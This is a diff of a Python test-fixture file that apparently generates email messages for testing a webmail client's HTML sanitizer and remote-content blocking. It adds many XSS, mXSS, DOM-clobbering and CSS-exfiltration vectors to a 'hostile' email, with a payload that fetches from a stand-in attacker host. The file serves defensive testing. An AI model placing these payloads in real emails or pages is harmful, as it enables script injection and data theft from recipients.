@@ -16,7 +16,7 @@ def png(width, height, colour):
 
 
 LOGO = png(120, 40, (11, 107, 93))
-PDF = b"%PDF-1.4\n" + b"x" * 48000
+PDF = b"%PDF-1.4\n" + b"x" * 8000
 HTML = """<html><head><style>body{font-family:Georgia,serif;color:#222;background:#f3efe6}
 .card{max-width:520px;margin:24px auto;background:#fff;padding:32px;border-radius:6px}
 .go{display:inline-block;background:#0b6b5d;color:#fff;padding:10px 18px;border-radius:4px;text-decoration:none}
@@ -94,12 +94,24 @@ def hostile(number, here, elsewhere):
     bad = "document.title='owned';window.top.owned=1;fetch('%s/script')" % elsewhere
     html = """<html><head><base href="%(e)s/base/"><meta http-equiv="refresh" content="0;url=%(e)s/refresh">
 <link rel="stylesheet" href="%(e)s/link.css"><link rel="preload" as="image" href="%(e)s/preload.png">
-<link rel="prefetch" href="%(e)s/prefetch"><link rel="dns-prefetch" href="%(e)s">
+<link rel="prefetch" href="%(e)s/prefetch"><link rel="dns-prefetch" href="%(e)s"><link rel="preconnect" href="%(e)s">
+<link rel="icon" href="%(e)s/icon.ico"><link rel="manifest" href="%(e)s/manifest"><link rel="modulepreload" href="%(e)s/module.js">
+<link rel="stylesheet alternate" title="x" href="%(e)s/alternate.css"><link rel="import" href="%(e)s/import.html">
+<meta http-equiv="Content-Security-Policy" content="script-src *"><meta http-equiv="set-cookie" content="a=b">
+<meta name="referrer" content="unsafe-url">
 <style>@import "%(e)s/import.css"; @font-face{font-family:x;src:url(%(e)s/font.woff)}
-body{background:url(%(e)s/css.png);font-family:x} p::before{content:url(%(e)s/content.png)}</style>
+body{background:url(%(e)s/css.png);font-family:x} p::before{content:url(%(e)s/content.png)}
+input[value^="s"]{background:u\\72l("%(e)s/leak-s.png");list-style:image-set("%(e)s/set.png" 1x);cursor:url(%(e)s/cursor.png),auto}
+#there{mask-image:url(%(e)s/mask.png);border-image:url(%(e)s/border.png) 1;filter:url(%(e)s/filter.svg#x)}
+@font-face{font-family:y;src:url(%(e)s/leak-a.woff);unicode-range:U+44} #there{font-family:y}
+#cid{background:url(cid:dot@evil.example);width:10px;height:10px}</style>
 <script>%(bad)s</script><script src="%(e)s/x.js"></script><script type="module" src="%(h)s/assets/app.js"></script></head>
 <body onload="%(bad)s" background="%(e)s/body.png" style="background-image:url('%(e)s/style.png')">
-<p id="there">Dear customer</p>
+<p id="there">Dear customer</p><input value="secret"><div id="cid"></div><img id="along" src="cid:dot@evil.example" alt="">
+<img name="body" src="%(e)s/n1.png"><img name="querySelectorAll" alt=""><img name="head" alt=""><img name="documentElement" alt="">
+<img name="createElement" alt=""><img name="URL" alt=""><img name="links" alt=""><embed name="fonts"><object id="addEventListener"></object>
+<form name="images" action="%(e)s/clobber"><input name="attributes"><input name="removeAttribute"><input id="childNodes"><input name="localName">
+<input name="remove"><input name="parentNode" onfocus="%(bad)s" autofocus><input name="querySelectorAll"><p onclick="%(bad)s">in a form</p></form>
 <img src="%(e)s/img.png" srcset="%(e)s/srcset.png 2x" onerror="%(bad)s"><img src=x onerror="%(bad)s">
 <img src="%(h)s/api/v1/message/M0000001"><img src="/api/v1/info"><picture><source srcset="%(e)s/source.png"><img></picture>
 <iframe src="%(e)s/frame"></iframe><iframe srcdoc="&lt;script&gt;%(bad)s&lt;/script&gt;"></iframe>
@@ -107,6 +119,19 @@ body{background:url(%(e)s/css.png);font-family:x} p::before{content:url(%(e)s/co
 <audio src="%(e)s/audio" autoplay></audio><svg onload="%(bad)s"><script>%(bad)s</script><image href="%(e)s/svg.png"/>
 <animate onbegin="%(bad)s" attributeName="x" dur="1s"/><foreignObject><iframe src="%(e)s/fo"></iframe></foreignObject></svg>
 <form action="%(e)s/form" id="f"><input name="password" autofocus onfocus="%(bad)s"><button id="send">Log in</button></form>
+<math href="javascript:%(bad)s"><maction actiontype="statusline#%(e)s/status" xlink:href="javascript:%(bad)s">x</maction>
+<mtext><table><mglyph><style><!--</style><img src=x onerror="%(bad)s">--></style></mglyph></table></mtext></math>
+<svg><style><a id="</style><img src=x onerror=&quot;%(bad)s&quot;>"></a></style><use href="%(e)s/use.svg#x"/><use href="data:image/svg+xml,&lt;svg/&gt;#x"/>
+<filter id="fi"><feImage href="%(e)s/fe.png"/></filter><rect style="fill:url(%(e)s/fill.svg#x)" filter="url(%(e)s/flt.svg#x)" width="9" height="9"/>
+<a xlink:href="javascript:%(bad)s"><set attributeName="xlink:href" to="javascript:%(bad)s"/><text y="9">svg</text></a><script href="%(e)s/svg.js"/></svg>
+<noscript><p title="</noscript><img src=x onerror=&quot;%(bad)s&quot;>"></p></noscript><!--><img src=x onerror="%(bad)s">-->
+<form id="mx"><div></form><form><math><mtext></form><form><mglyph><style></math><img src=x onerror="%(bad)s"></style></mglyph></mtext></math></form>
+<table background="%(e)s/table.png"><td background="%(e)s/td.png">x</td></table><bgsound src="%(e)s/bg.mid"><img lowsrc="%(e)s/low.png" dynsrc="%(e)s/dyn.png">
+<button form="f" formaction="javascript:%(bad)s" formtarget="_top" onclick="%(bad)s">x</button><marquee onstart="%(bad)s">x</marquee>
+<xss tabindex="1" onfocus="%(bad)s" autofocus>x</xss><a href="java&#10;script:%(bad)s">x</a><a href="&#1;javascript:%(bad)s">x</a>
+<map name="m"><area shape="default" href="javascript:%(bad)s"></map><iframe src="javascript:%(bad)s"></iframe><frameset onload="%(bad)s"></frameset>
+<a id="top" href="%(e)s/top" target="_top" ping="%(e)s/ping">up</a> <a id="pinged" href="%(e)s/pinged" ping="%(e)s/ping" target="_self">self</a>
+<video autoplay><source src="%(e)s/v.mp4"><track src="%(e)s/v.vtt" default></video><portal src="%(e)s/portal"></portal><fencedframe src="%(e)s/fenced"></fencedframe>
 <a id="js" href="javascript:%(bad)s">one</a> <a id="data" href="data:text/html,&lt;script&gt;%(bad)s&lt;/script&gt;">two</a>
 <a id="out" href="%(e)s/link" ping="%(e)s/ping">three</a> <a id="in" href="/assets/app.js">four</a>
 <math><mtext></mtext><mglyph><style><img src=x onerror="%(bad)s"></style></mglyph></math>
@@ -119,9 +144,11 @@ body{background:url(%(e)s/css.png);font-family:x} p::before{content:url(%(e)s/co
     m["Subject"], m["From"], m["To"] = subject, '"%s" <evil@evil.example>' % name, "bob@bob.example"
     m.set_content(text)
     m.add_alternative(html, subtype="html")
+    m.get_payload()[1].add_related(LOGO, "image", "png", cid="<dot@evil.example>")
     m.add_attachment(b"<script>x</script>", "text", "html", filename="../../<b>.html")
     return message(number, subject=subject, sender=(name, "evil@evil.example"), text=text, html=html,
-                   raw=m.as_bytes().replace(b"\n", b"\r\n"), tags=("<i>tag</i>",), attachments=[part("2", "../../<b>.html", "text/html", b"<script>x</script>")])
+                   raw=m.as_bytes().replace(b"\n", b"\r\n"), tags=("<i>tag</i>",), attachments=[part("2", "../../<b>.html", "text/html", b"<script>x</script>")],
+                   inline=[part("1.2.2", "dot.png", "image/png", LOGO, "dot@evil.example")])
 
 
 PEOPLE = (("Alice Adams", "alice@alice.example"), ("Bob Brown", "bob@bob.example"), ("", "cron@build.example"),
